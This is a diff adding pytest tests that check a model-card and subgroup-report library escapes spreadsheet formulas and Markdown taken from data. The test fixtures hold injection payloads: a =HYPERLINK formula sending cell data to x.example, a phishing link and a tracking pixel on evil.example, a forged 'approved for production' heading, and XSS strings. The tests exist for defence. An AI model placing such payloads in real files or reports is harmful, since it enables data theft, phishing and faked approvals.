@@ -109,3 +109,96 @@ def test_the_model_card_page_shows_html_as_text(tmp_path):
     assert "<script>alert" not in body and "onerror=alert" not in body.replace("&lt;img src=x onerror", "")
     assert 'href="javascript' not in body and '<img src="figure.png" alt="figure"' in body
     assert body.count("<table>") == 1 and body.count("</table>") == 1
+
+
+def test_a_csv_for_spreadsheets_shows_formulas_from_the_data_as_text():
+    """``=HYPERLINK(...)``, ``+``, ``-``, ``@``, a tab or a carriage return first: a spreadsheet would run it; the
+    cell gets a leading ``'``. Numbers (negative ones too) and missing values are left as they are."""
+    import pandas as pd
+
+    from livinglab.escaping import spreadsheet_safe
+
+    frame = pd.DataFrame(
+        {
+            "region": ['=HYPERLINK("http://x.example/?"&A1,"open")', "Nord", None, "@SUM(A1)", "\tcmd"],
+            "sex": pd.Categorical(["+1", "female", "male", "male", "-x"]),
+            "change": [-1.5, 2.0, 0.0, -3.0, 1.0],
+            "mixed": ["-2", -2, "ok", None, "\rx"],
+        }
+    )
+    safe = spreadsheet_safe(frame)
+    assert safe["region"].tolist()[:2] == ['\'=HYPERLINK("http://x.example/?"&A1,"open")', "Nord"]
+    assert safe["region"].isna().tolist() == [False, False, True, False, False]
+    assert safe["region"].iloc[3:].tolist() == ["'@SUM(A1)", "'\tcmd"]
+    assert safe["sex"].tolist() == ["'+1", "female", "male", "male", "'-x"]
+    assert safe["change"].tolist() == [-1.5, 2.0, 0.0, -3.0, 1.0]
+    assert safe["mixed"].tolist()[:3] == ["'-2", -2, "ok"] and safe["mixed"].iloc[4] == "'\rx"
+    assert frame["region"].iloc[0].startswith("=")  # the caller's frame is not changed
+
+
+LINK_NAME = "[Sign in again](https://evil.example/login)"
+PIXEL_NAME = "![](https://evil.example/pixel.png) x\n\n## Verdict: approved for production"
+
+
+def test_group_names_from_the_data_stay_text_in_the_subgroup_table_and_the_model_card():
+    """A group named like a Markdown link, an image (a web beacon) or a line break and a heading (a forged
+    verdict) is shown as its text in the subgroup table, the gap sentences and the card's summary; an
+    ordinary name is written as it is."""
+    import re
+    import sys
+    from pathlib import Path
+
+    from livinglab.escaping import markdown_html, md_inline
+    from livinglab.trust import ModelCard
+    from livinglab.trust.subgroups import subgroup_report
+
+    assert md_inline("65+ St. Martin low_income (north)") == "65+ St. Martin low_income (north)"
+    sys.path.insert(0, str(Path(__file__).parent / "trust"))
+    from test_trust_model_card import accuracy, card_fields
+
+    report = subgroup_report(
+        {"accuracy": accuracy},
+        [1, 0, 1, 0, 1, 1],
+        [1, 0, 0, 0, 1, 1],
+        [LINK_NAME] * 3 + [PIXEL_NAME] * 3,
+        n_boot=20,
+        min_count=2,
+    )
+    card = ModelCard(**card_fields(subgroups=report))
+    for markdown in (report.to_markdown(), card.to_markdown()):
+        page = markdown_html(markdown)
+        assert not re.search(r"<a |<img |<h\d>Verdict", page), page
+        assert "[Sign in again](https://evil.example/login)" in page
+        assert "![](https://evil.example/pixel.png) x  ## Verdict: approved for production" in page
+
+
+def test_group_names_from_the_data_stay_text_in_the_cards_prose():
+    """card.yaml's prose names the largest gap's groups (``{{ gap.worst }}``): from the data, as text."""
+    import sys
+    from pathlib import Path
+    from types import SimpleNamespace
+
+    from livinglab.escaping import markdown_html
+    from livinglab.result import Result
+    from livinglab.trust.model_card import card_context
+    from livinglab.trust.subgroups import subgroup_report
+    from livinglab.trust.texts import render_text
+
+    sys.path.insert(0, str(Path(__file__).parent / "trust"))
+    from test_trust_model_card import accuracy
+
+    report = subgroup_report(
+        {"accuracy": accuracy},
+        [1, 0, 1, 0, 1, 1],
+        [1, 0, 0, 0, 1, 1],
+        [LINK_NAME] * 3 + [PIXEL_NAME] * 3,
+        n_boot=20,
+        min_count=2,
+    )
+    result = Result(
+        pilot="p", design="d", data=SimpleNamespace(is_synthetic=True), subgroups={"by x": report}
+    )
+    prose = render_text("Worst {{ gap.worst }}, best {{ gap.best }}.", card_context(result), "test")
+    page = markdown_html(prose)
+    assert "<a " not in page and "<img " not in page and "<h2>" not in page, page
+    assert "[Sign in again](https://evil.example/login)" in page
